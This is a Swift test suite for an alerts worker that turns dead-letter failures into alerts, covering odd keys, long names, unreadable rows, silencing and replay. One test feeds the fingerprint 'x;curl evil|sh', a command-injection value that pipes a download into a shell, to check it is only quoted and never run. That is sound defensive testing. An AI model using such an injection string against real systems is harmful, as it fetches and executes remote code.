import Ledger
import Models
import Testing

@testable import AlertsWorker
@testable import Fleet

/// What messages and people bring along must not keep an alert from being told, nor from ending.
@Suite("Dead letters with odd words become alerts all the same")
struct LetterWatchHardeningTests {
    private func assign(_ desk: WatchDesk, to person: String, at seconds: Int64) async throws {
        try await desk.ledger.write { transaction in
            _ = try transaction.setGroupNote(
                .assignee(person), of: "ab12", by: "anna", reason: "mine", at: WatchDesk.at(seconds))
        }
    }

    @Test("keys that no contract takes, and names and codes that are too long, silence nobody")
    func oddWords() async throws {
        try await WatchDesk.with { desk in
            try await desk.fail("W-1")
            try await desk.fail(" W-2\u{1}", code: String(repeating: "c", count: 80))
            try await desk.fail(" \u{1}")
            try await assign(desk, to: String(repeating: "n", count: 200), at: 0)
            let alert = try #require(try await desk.look(at: 0).first)
            #expect(Set(alert.subjects) == ["W-1", "W-2"] && alert.count == 3)
            #expect(alert.owner == String(repeating: "n", count: 120) && alert.contractFaults.isEmpty)
            let quiet = try await desk.look(at: 60)
            #expect(quiet.isEmpty)
            for id in ["W-1", " W-2\u{1}", " \u{1}"] { try await desk.move(id, from: .open, to: .discarded) }
            let end = try await desk.look(at: 61)
            #expect(end.map(\.state) == [.resolved] && end.map(\.raisedAt) == [alert.raisedAt])
        }
    }

    @Test("fingerprints that no key takes are told apart, and no shell runs them")
    func oddFingerprints() async throws {
        try await WatchDesk.with { desk in
            try await desk.fail("W-1", "x;curl evil|sh")
            try await desk.fail("W-2", "ab12 ")
            try await desk.fail("W-3", "ab12")
            let alerts = try await desk.look(at: 0)
            #expect(Set(alerts.map(\.key)).count == 3)
            let commands = alerts.flatMap(\.commands)
            #expect(commands.contains("dead-letter groups show 'x;curl evil|sh'"))
            #expect(commands.contains("dead-letter replay --all --fingerprint 'ab12 ' --reason '…'"))
            let quiet = try await desk.look(at: 60)
            #expect(quiet.isEmpty)
        }
    }

    @Test("what a newer version has said and this one cannot read ends all the same")
    func unreadable() async throws {
        try await WatchDesk.with { desk in
            try await desk.fail("W-1")
            let first = try #require(try await desk.look(at: 0).first)
            try await desk.ledger.write { transaction in
                _ = try transaction.execute("UPDATE alert_watch SET body = x'00', worst = x'00'")
            }
            try await desk.move("W-1", from: .open, to: .discarded)
            let end = try await desk.look(at: 60)
            #expect(end.map(\.state) == [.resolved] && end.map(\.raisedAt) == [first.raisedAt])
        }
    }

    @Test("a sum that leaves out orders is said to be a part")
    func part() async throws {
        try await WatchDesk.with { desk in
            try await desk.fail("W-1")
            let whole = try #require(try await desk.look(at: 0).first)
            #expect(!whole.sentence.contains("at least"))
            try await desk.fail("W-2", at: 5)
            try await desk.ledger.write { _ = try $0.execute("DELETE FROM payload WHERE id = 'W-2'") }
            let part = try #require(try await desk.look(at: 10).first)
            #expect(part.sentence.contains("At stake is at least") && part.atStake == whole.atStake)
        }
    }

    @Test("silencing what is open calls nobody else, and its end is said at once")
    func silenced() async throws {
        try await WatchDesk.with { desk in
            func silence(_ fingerprint: String) async throws {
                try await desk.ledger.write { transaction in
                    _ = try transaction.setGroupNote(
                        .silence(until: WatchDesk.at(600)), of: fingerprint, by: "anna", reason: "known",
                        at: WatchDesk.at(5))
                }
            }
            try await desk.fail("W-1")
            try await desk.fail("W-2", "cd34")
            _ = try await desk.look(at: 0)
            try await silence("ab12")
            try await silence("cd34")
            let muted = try await desk.look(at: 10)
            #expect(muted.map(\.owner) == ["anna", "anna"] && muted.map(\.state) == [.open, .open])
            try await desk.fail("W-3", at: 20)
            let quiet = try await desk.look(at: 30)
            #expect(quiet.isEmpty)
            try await desk.move("W-2", from: .open, to: .discarded)
            let ended = try await desk.look(at: 40)
            #expect(ended.map(\.key) == ["dead-letter/cd34"] && ended.map(\.state) == [.resolved])
            let spoken = try await desk.look(at: 601)
            #expect(spoken.map(\.count) == [2] && spoken.map(\.owner) == [nil])
        }
    }

    @Test("whoever has replayed all letters looks after the cause, until one fails again")
    func replayed() async throws {
        try await WatchDesk.with { desk in
            try await desk.fail("W-1")
            _ = try await desk.look(at: 0)
            let isMoved = try await desk.ledger.write {
                try $0.updateDeadLetter(id: "W-1", from: .open, to: .replayed, note: "anna: created the product")
            }
            #expect(isMoved)
            let replayed = try await desk.look(at: 10)
            #expect(replayed.map(\.owner) == ["anna"] && replayed.map(\.state) == [.open])
            try await desk.fail("W-1", at: 20)
            let failed = try await desk.look(at: 30)
            #expect(failed.map(\.owner) == [nil] && failed.map(\.state) == [.open])
        }
    }
}
